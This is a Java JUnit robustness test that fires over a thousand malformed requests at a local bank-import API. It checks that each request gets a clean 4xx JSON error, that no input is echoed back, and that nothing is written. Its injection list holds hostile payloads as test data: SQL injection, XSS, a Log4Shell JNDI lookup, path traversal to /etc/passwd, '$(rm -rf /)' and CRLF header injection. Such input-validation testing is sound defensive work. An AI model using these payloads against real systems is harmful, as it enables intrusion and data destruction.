package io.finport.local.reliability;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.finport.local.LocalApiClient;
import io.finport.local.LocalStack;
import java.net.URI;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.Semaphore;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Bad input, proven: a seeded generator sends well over 1,000 malformed requests to the local API (wrong types,
 * missing and extra fields, nulls, arrays, deep nesting, huge and invalid-UTF-8 bodies, bad JSON, wrong Content-Type,
 * bad Idempotency-Keys, injection strings, unknown types, ids 0/-1/1e309/"123"/2^63, wrong methods and bad ids).
 * Every answer must be a 4xx JSON error naming the problem, never echo what was sent, and write nothing.
 */
class BadInputTest {
    private static final long SEED = 20_261_124L;
    private static final int MINIMUM = 1_000;
    private static final Set<String> FIELD_CODES = Set.of(
            "MISSING_BODY",
            "BODY_TOO_LARGE",
            "INVALID_JSON",
            "UNKNOWN_FIELD",
            "MISSING_FIELD",
            "INVALID_FIELD",
            "INVALID_HEADER",
            "UNSUPPORTED_MEDIA_TYPE");
    private static final String IBAN_CANARY = "DE89370400440532013000";
    private static final List<String> INJECTIONS = List.of(
            "'; DROP TABLE imports; --",
            "{{7*7}}",
            "<script>alert(1)</script>",
            "${jndi:ldap://x.example/a}",
            "../../../../etc/passwd",
            "%00",
            "\u0000",
            "' OR '1'='1",
            "$(rm -rf /)",
            "#{7*7}",
            "<!--#exec cmd=\"ls\"-->",
            "\r\nX-Injected: 1",
            "admin'--",
            IBAN_CANARY,
            "DE89 3704 0044 0532 0130 00");
    private static final List<String> BAD_ID_JSON = List.of(
            "0",
            "-1",
            "1e309",
            "\"123\"",
            "9223372036854775808",
            "9223372036854775807",
            "9007199254740992",
            "1.5",
            "true",
            "[]",
            "{}",
            "\"\"",
            "-0.0",
            "1E3");
    private static LocalStack stack;
    private static LocalApiClient api;

    /** One generated request and the field its error must name (null when several fields are wrong). */
    record Case(
            String kind, String method, String path, Map<String, String> headers, byte[] body, String expectedField) {}

    @BeforeAll
    static void shareStack() {
        stack = Reliability.stack();
        api = Reliability.api(stack);
    }

    @Test
    void api_whenSentOverAThousandMalformedRequests_answersOnly4xxJsonErrorsNamingTheProblemAndWritesNothing()
            throws Exception {
        Reliability.awaitNoRunningExecution(stack);
        long itemsBefore = Reliability.tableItemCount(stack);
        int executionsBefore = Reliability.executions(stack).size();
        List<Case> cases = generate(new Random(SEED));
        LeakScanner scanner = new LeakScanner().iban(IBAN_CANARY);
        Map<Integer, Integer> byStatus = Collections.synchronizedMap(new TreeMap<>());
        Map<String, Integer> byCode = Collections.synchronizedMap(new TreeMap<>());
        List<String> problems = Collections.synchronizedList(new ArrayList<>());

        Semaphore inFlight = new Semaphore(32);
        try (ExecutorService pool = Executors.newVirtualThreadPerTaskExecutor()) {
            List<Future<?>> futures = new ArrayList<>();
            for (Case c : cases) {
                futures.add(pool.submit(() -> {
                    inFlight.acquireUninterruptibly();
                    try {
                        check(c, send(c), byStatus, byCode, problems, scanner);
                    } finally {
                        inFlight.release();
                    }
                }));
            }
            for (var f : futures) f.get();
        }

        Reliability.report("bad_inputs_sent", cases.size());
        byStatus.forEach((status, n) -> Reliability.report("bad_inputs_status_" + status, n));
        byCode.forEach((code, n) -> Reliability.report("bad_inputs_error_" + code, n));
        assertThat(cases.size()).isGreaterThanOrEqualTo(MINIMUM);
        assertThat(problems)
                .as("answers that were not a 4xx JSON error naming the problem")
                .isEmpty();
        assertThat(Reliability.tableItemCount(stack)).as("DynamoDB items").isEqualTo(itemsBefore);
        assertThat(Reliability.executions(stack)).as("executions").hasSize(executionsBefore);
    }

    private static void check(
            Case c,
            LocalApiClient.Response r,
            Map<Integer, Integer> byStatus,
            Map<String, Integer> byCode,
            List<String> problems,
            LeakScanner scanner) {
        byStatus.merge(r.status(), 1, Integer::sum);
        String label = c.kind() + " → " + r.status() + " " + abbreviate(r.body());
        if (r.status() < 400 || r.status() > 499) {
            problems.add("not 4xx: " + label);
            return;
        }
        JsonNode json;
        try {
            json = Reliability.MAPPER.readTree(r.body());
        } catch (Exception e) {
            problems.add("not JSON: " + label);
            return;
        }
        if (json == null
                || !json.path("error").isTextual()
                || json.path("error").asText().isBlank()
                || !json.path("message").isTextual()) {
            problems.add("no error/message: " + label);
            return;
        }
        String code = json.path("error").asText();
        byCode.merge(code, 1, Integer::sum);
        if (FIELD_CODES.contains(code) && json.path("field").asText("").isBlank()) problems.add("no field: " + label);
        if (c.expectedField() != null
                && !c.expectedField().equals(json.path("field").asText())) {
            problems.add("names field " + json.path("field") + " instead of " + c.expectedField() + ": " + label);
        }
        if (!"application/json".equals(r.header("Content-Type")))
            problems.add("Content-Type " + r.header("Content-Type") + ": " + label);
        for (String injected : INJECTIONS) {
            if (injected.length() > 3 && r.body().contains(injected)) problems.add("echoes what was sent: " + label);
        }
        problems.addAll(scanner.scan(c.kind(), r.body()));
    }

    // ---- the generator ----------------------------------------------------------------------------------------

    static List<Case> generate(Random random) {
        List<Case> cases = new ArrayList<>();
        // Wrong types, nulls, arrays and objects for every field of an otherwise valid UPDATE request.
        List<String> values = List.of(
                "null",
                "-1",
                "0",
                "1.5",
                "true",
                "false",
                "[]",
                "[1]",
                "{}",
                "{\"a\":1}",
                "\"\"",
                "\" \"",
                "\"NOPE\"",
                "\"update\"",
                "\"XS2A \"",
                "1e309",
                "\"9223372036854775808\"");
        for (String field :
                List.of("type", "userReference", "bankConnectionId", "bankingInterface", "importNewAccounts")) {
            for (String value : values) {
                String body = baseUpdate(random)
                        .replaceFirst("\"" + field + "\":(\"[^\"]*\"|[^,}]+)", "\"" + field + "\":" + value);
                if (!body.contains("\"" + field + "\":" + value))
                    body = body.replace("{", "{\"" + field + "\":" + value + ",");
                if (isAcceptable(field, value)) continue;
                cases.add(post("wrong value " + field + "=" + value, body, field));
            }
        }
        // Ids that are not positive JSON integers within 2^53-1.
        for (String id : BAD_ID_JSON) {
            cases.add(post(
                    "bankConnectionId " + id,
                    "{\"type\":\"UPDATE\",\"userReference\":\"u1\",\"bankConnectionId\":" + id + "}",
                    "bankConnectionId"));
            cases.add(post(
                    "bankId " + id, "{\"type\":\"IMPORT\",\"userReference\":\"u1\",\"bankId\":" + id + "}", "bankId"));
        }
        // Missing fields and fields not allowed for the type.
        cases.add(post("missing type", "{\"userReference\":\"u1\",\"bankConnectionId\":5}", "type"));
        cases.add(post("missing userReference", "{\"type\":\"UPDATE\",\"bankConnectionId\":5}", "userReference"));
        cases.add(post(
                "UPDATE without connection", "{\"type\":\"UPDATE\",\"userReference\":\"u1\"}", "bankConnectionId"));
        cases.add(
                post("TRACK without connection", "{\"type\":\"TRACK\",\"userReference\":\"u1\"}", "bankConnectionId"));
        cases.add(post(
                "UPDATE with bankId",
                "{\"type\":\"UPDATE\",\"userReference\":\"u1\",\"bankConnectionId\":5,\"bankId\":7}",
                "bankId"));
        cases.add(post(
                "IMPORT with connection",
                "{\"type\":\"IMPORT\",\"userReference\":\"u1\",\"bankConnectionId\":5}",
                "bankConnectionId"));
        cases.add(post(
                "TRACK importing new accounts",
                "{\"type\":\"TRACK\",\"userReference\":\"u1\",\"bankConnectionId\":5,\"importNewAccounts\":true}",
                "importNewAccounts"));
        cases.add(post(
                "IMPORT importing new accounts",
                "{\"type\":\"IMPORT\",\"userReference\":\"u1\",\"importNewAccounts\":true}",
                "importNewAccounts"));
        for (String type :
                List.of("DELETE", "EXPORT", "IMPORTS", "IMPORT\u0001X", "UPDATE;", "*", "TRACK,UPDATE", "UPD ATE")) {
            cases.add(post(
                    "unknown type " + type,
                    "{\"type\":" + quote(type) + ",\"userReference\":\"u1\",\"bankConnectionId\":5}",
                    "type"));
        }
        // Injection strings and personal data where an opaque id belongs, and as unknown field names.
        for (String injection : INJECTIONS) {
            if (!injection.matches("[A-Za-z0-9._-]{1,64}")) {
                cases.add(post(
                        "injection userReference",
                        "{\"type\":\"UPDATE\",\"userReference\":" + quote(injection) + ",\"bankConnectionId\":5}",
                        "userReference"));
            }
            cases.add(post(
                    "injection type",
                    "{\"type\":" + quote(injection) + ",\"userReference\":\"u1\",\"bankConnectionId\":5}",
                    "type"));
            cases.add(post(
                    "injection interface",
                    "{\"type\":\"UPDATE\",\"userReference\":\"u1\",\"bankConnectionId\":5,\"bankingInterface\":"
                            + quote(injection) + "}",
                    "bankingInterface"));
            if (!injection.matches("[A-Za-z0-9_]{1,40}")) {
                // (Identifier-like names are echoed as the field; see docs/reliability.md, finding F3.)
                cases.add(post(
                        "injection field name",
                        "{\"type\":\"UPDATE\",\"userReference\":\"u1\",\"bankConnectionId\":5," + quote(injection)
                                + ":1}",
                        "(unnamed field)"));
            }
            // A decoded "/" makes it another route (404 without a field); every other id is named as the bad field.
            cases.add(get(
                    "injection import id",
                    "/imports/" + java.net.URLEncoder.encode(injection, StandardCharsets.UTF_8),
                    injection.contains("/") ? null : "importId"));
        }
        for (String email : List.of("max@example.com", "Max Mustermann", "user/1", "a".repeat(65), "ü-user", "")) {
            cases.add(post(
                    "userReference " + email.length(),
                    "{\"type\":\"UPDATE\",\"userReference\":" + quote(email) + ",\"bankConnectionId\":5}",
                    "userReference"));
        }
        // Bad JSON and bodies that are not one JSON object.
        for (String body : List.of(
                "{",
                "}",
                "{\"type\":\"UPDATE\",}",
                "{'type':'UPDATE'}",
                "{\"type\":NaN}",
                "{\"type\":\"UPDATE\" /*c*/}",
                "[]",
                "[{\"type\":\"UPDATE\"}]",
                "\"UPDATE\"",
                "42",
                "null",
                "true",
                "{\"type\":\"UPDATE\"}{}",
                "\u0000",
                "{\"a\":\"\\uZZZZ\"}",
                "{\"type\":\"UPDATE\",\"userReference\":\"u1\",\"bankConnectionId\":5",
                "<xml/>",
                "type=UPDATE&userReference=u1")) {
            cases.add(post("bad JSON " + abbreviate(body), body, "body"));
        }
        cases.add(post("empty body", "", "body"));
        cases.add(post("blank body", " \n\t ", "body"));
        cases.add(post("deep nesting", "{\"type\":" + "[".repeat(5000) + "]".repeat(5000) + "}", null));
        cases.add(post("deep object nesting", "{\"x\":" + "{\"x\":".repeat(3000) + "1" + "}".repeat(3000) + "}", null));
        // Huge bodies: above the API's 16 KB request limit, and above API Gateway's 10 MB payload limit.
        cases.add(post(
                "huge string",
                "{\"type\":\"UPDATE\",\"userReference\":\"" + "a".repeat(20_000) + "\",\"bankConnectionId\":5}",
                "body"));
        cases.add(post(
                "huge unknown field",
                "{\"type\":\"UPDATE\",\"userReference\":\"u1\",\"bankConnectionId\":5,\"x\":\"" + "b".repeat(17_000)
                        + "\"}",
                "body"));
        cases.add(new Case(
                "body > 10 MB",
                "POST",
                "/imports",
                Map.of("Content-Type", "application/json"),
                ("{\"x\":\"" + "c".repeat(10 * 1024 * 1024 + 10) + "\"}").getBytes(StandardCharsets.UTF_8),
                "body"));
        // Invalid UTF-8 inside otherwise well-formed JSON.
        for (byte[] bad : List.of(new byte[] {(byte) 0xC3, 0x28}, new byte[] {(byte) 0xFF}, new byte[] {
            (byte) 0xED, (byte) 0xA0, (byte) 0x80
        })) {
            byte[] head = "{\"type\":\"UPDATE\",\"userReference\":\"u".getBytes(StandardCharsets.UTF_8);
            byte[] tail = "\",\"bankConnectionId\":5}".getBytes(StandardCharsets.UTF_8);
            byte[] body = new byte[head.length + bad.length + tail.length];
            System.arraycopy(head, 0, body, 0, head.length);
            System.arraycopy(bad, 0, body, head.length, bad.length);
            System.arraycopy(tail, 0, body, head.length + bad.length, tail.length);
            cases.add(new Case(
                    "invalid UTF-8",
                    "POST",
                    "/imports",
                    Map.of("Content-Type", "application/json"),
                    body,
                    "userReference"));
        }
        // Headers: wrong Content-Type, bad Idempotency-Keys, each with an otherwise valid body.
        for (String type : List.of(
                "text/plain",
                "application/xml",
                "multipart/form-data; boundary=x",
                "application/x-www-form-urlencoded",
                "text/json",
                "json",
                "*/*")) {
            cases.add(new Case(
                    "Content-Type " + type,
                    "POST",
                    "/imports",
                    Map.of("Content-Type", type),
                    baseUpdate(random).getBytes(StandardCharsets.UTF_8),
                    "Content-Type"));
        }
        for (String key : List.of(
                "k".repeat(65),
                "k".repeat(1_000),
                "k".repeat(8_000),
                "has space",
                "ünïcödé",
                "a/b",
                "a.b",
                "a:b",
                "\"quoted\"",
                "key;drop",
                "..",
                "a*",
                "€",
                "%20")) {
            cases.add(new Case(
                    "Idempotency-Key " + abbreviate(key),
                    "POST",
                    "/imports",
                    Map.of("Content-Type", "application/json", "Idempotency-Key", key),
                    baseUpdate(random).getBytes(StandardCharsets.UTF_8),
                    "Idempotency-Key"));
        }
        // Wrong methods and routes, bad import ids.
        for (String method : List.of("PUT", "DELETE", "PATCH", "GET"))
            cases.add(new Case(method + " /imports", method, "/imports", Map.of(), new byte[0], null));
        cases.add(new Case(
                "POST /imports/{id}",
                "POST",
                "/imports/imp-000000000000000000000000",
                Map.of("Content-Type", "application/json"),
                baseUpdate(random).getBytes(StandardCharsets.UTF_8),
                null));
        cases.add(new Case(
                "DELETE /imports/{id}",
                "DELETE",
                "/imports/imp-000000000000000000000000",
                Map.of(),
                new byte[0],
                null));
        cases.add(get("unknown route", "/admin", null));
        cases.add(get("unknown route", "/imports/a/b/c", null));
        for (String id : List.of(
                "imp-",
                "imp-xyz",
                "IMP-000000000000000000000000",
                "imp-00000000000000000000000g",
                "imp-0000000000000000000000000",
                "1",
                "-1",
                "null",
                "..%2E%2E",
                "imp-" + "0".repeat(1000),
                "%00",
                "imp-000000000000000000000000%00")) {
            cases.add(get("bad import id " + abbreviate(id), "/imports/" + id, "importId"));
        }
        // Well-formed but unknown import ids: 404 naming the field.
        for (int i = 0; i < 20; i++) {
            cases.add(get("unknown import", "/imports/imp-" + hex(random, 24), "importId"));
        }
        // Seeded random mutations of valid requests until well past the minimum.
        while (cases.size() < MINIMUM + 200) cases.add(randomMutation(random));
        return cases;
    }

    private static Case randomMutation(Random random) {
        ObjectNode body = (ObjectNode) Reliability.json(baseUpdate(random));
        switch (random.nextInt(7)) {
            case 0 -> {
                String field = pick(random, List.of("type", "userReference", "bankConnectionId"));
                body.remove(field);
                return post("random: missing " + field, body.toString(), field);
            }
            case 1 -> {
                String name = pick(
                        random,
                        List.of(
                                "id",
                                "__proto__",
                                "constructor",
                                "Type",
                                "user_reference",
                                "bankconnectionid",
                                "password",
                                "iban",
                                "extra" + random.nextInt(1000)));
                body.put(name, random.nextInt());
                return post(
                        "random: extra field " + name,
                        body.toString(),
                        name.matches("[A-Za-z0-9_]{1,40}") ? name : "(unnamed field)");
            }
            case 2 -> {
                body.put("bankConnectionId", -1L - random.nextInt(1_000_000));
                return post("random: negative id", body.toString(), "bankConnectionId");
            }
            case 3 -> {
                body.put("bankConnectionId", String.valueOf(1 + random.nextInt(1_000_000)));
                return post("random: id as string", body.toString(), "bankConnectionId");
            }
            case 4 -> {
                body.put(
                        "userReference",
                        pick(
                                        random,
                                        INJECTIONS.stream()
                                                .filter(i -> !i.matches("[A-Za-z0-9._-]+"))
                                                .toList())
                                + random.nextInt(100));
                return post("random: injection userReference", body.toString(), "userReference");
            }
            case 5 -> {
                String text = body.toString();
                int cut = 1 + random.nextInt(text.length() - 2);
                return post("random: truncated JSON", text.substring(0, cut), "body");
            }
            default -> {
                body.put(
                        "bankingInterface", pick(random, List.of("xs2a", "FINTS", "WEB", "SCRAPER", "", "XS2A\u0000")));
                return post("random: unknown interface", body.toString(), "bankingInterface");
            }
        }
    }

    private static boolean isAcceptable(String field, String value) {
        // Values that make a valid request (or an omitted optional field) are not bad input.
        return switch (field) {
            case "type" -> value.equals("\"update\"");
            case "userReference" ->
                value.equals("\"NOPE\"") || value.equals("\"update\"") || value.equals("\"9223372036854775808\"");
            case "bankingInterface" -> value.equals("null");
            case "importNewAccounts" -> value.equals("null") || value.equals("true") || value.equals("false");
            default -> false;
        };
    }

    private static String baseUpdate(Random random) {
        return "{\"type\":\"UPDATE\",\"userReference\":\"bad-input-" + random.nextInt(1000) + "\",\"bankConnectionId\":"
                + (900_000_000 + random.nextInt(1_000_000))
                + ",\"bankingInterface\":\"XS2A\",\"importNewAccounts\":false}";
    }

    private static Case post(String kind, String body, String field) {
        return new Case(
                kind,
                "POST",
                "/imports",
                Map.of("Content-Type", "application/json"),
                body.getBytes(StandardCharsets.UTF_8),
                field);
    }

    private static Case get(String kind, String path, String field) {
        return new Case(kind, "GET", path, Map.of(), new byte[0], field);
    }

    private static LocalApiClient.Response send(Case c) {
        boolean plainAscii =
                c.headers().values().stream().allMatch(v -> v.chars().allMatch(ch -> ch >= 0x20 && ch < 0x7f));
        if (!plainAscii) return sendRaw(c);
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(stack.apiUrl() + c.path()))
                .timeout(Duration.ofSeconds(30))
                .method(
                        c.method(),
                        c.body().length == 0
                                ? HttpRequest.BodyPublishers.noBody()
                                : HttpRequest.BodyPublishers.ofByteArray(c.body()));
        c.headers().forEach(request::header);
        return api.send(request.build());
    }

    /** Header values the JDK client refuses to send (non-ASCII) go over a plain socket, UTF-8 encoded. */
    private static LocalApiClient.Response sendRaw(Case c) {
        URI base = stack.apiUrl();
        try (java.net.Socket socket = new java.net.Socket(base.getHost(), base.getPort())) {
            socket.setSoTimeout(30_000);
            StringBuilder head = new StringBuilder(c.method() + " " + c.path() + " HTTP/1.1\r\nHost: " + base.getHost()
                    + "\r\nConnection: close\r\nContent-Length: " + c.body().length + "\r\n");
            c.headers().forEach((k, v) -> head.append(k).append(": ").append(v).append("\r\n"));
            head.append("\r\n");
            var out = socket.getOutputStream();
            out.write(head.toString().getBytes(StandardCharsets.UTF_8));
            out.write(c.body());
            out.flush();
            String response = new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
            int split = response.indexOf("\r\n\r\n");
            String[] lines = response.substring(0, split).split("\r\n");
            Map<String, List<String>> headers = new TreeMap<>(String.CASE_INSENSITIVE_ORDER);
            for (int i = 1; i < lines.length; i++) {
                int colon = lines[i].indexOf(':');
                headers.computeIfAbsent(lines[i].substring(0, colon).trim(), k -> new ArrayList<>())
                        .add(lines[i].substring(colon + 1).trim());
            }
            return new LocalApiClient.Response(
                    Integer.parseInt(lines[0].split(" ")[1]), headers, response.substring(split + 4));
        } catch (java.io.IOException e) {
            throw new IllegalStateException("raw request failed: " + e.getMessage(), e);
        }
    }

    private static String quote(String s) {
        return Reliability.MAPPER.getNodeFactory().textNode(s).toString();
    }

    private static <T> T pick(Random random, List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    private static String hex(Random random, int digits) {
        StringBuilder out = new StringBuilder();
        for (int i = 0; i < digits; i++) out.append(Character.forDigit(random.nextInt(16), 16));
        return out.toString();
    }

    private static String abbreviate(String s) {
        String flat = s.replaceAll("\\s+", " ");
        return flat.length() <= 60 ? flat : flat.substring(0, 60) + "…";
    }
}
